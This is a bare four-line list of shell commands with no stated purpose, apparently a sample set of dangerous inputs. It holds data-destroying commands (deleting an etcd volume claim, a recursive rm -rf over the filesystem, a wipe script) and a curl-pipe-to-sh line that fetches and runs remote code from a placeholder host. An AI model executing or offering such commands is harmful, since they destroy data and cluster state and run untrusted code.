kubectl delete pvc data-etcd-0
find / | xargs rm -rf
./wipe.sh
curl http://x/y | sh
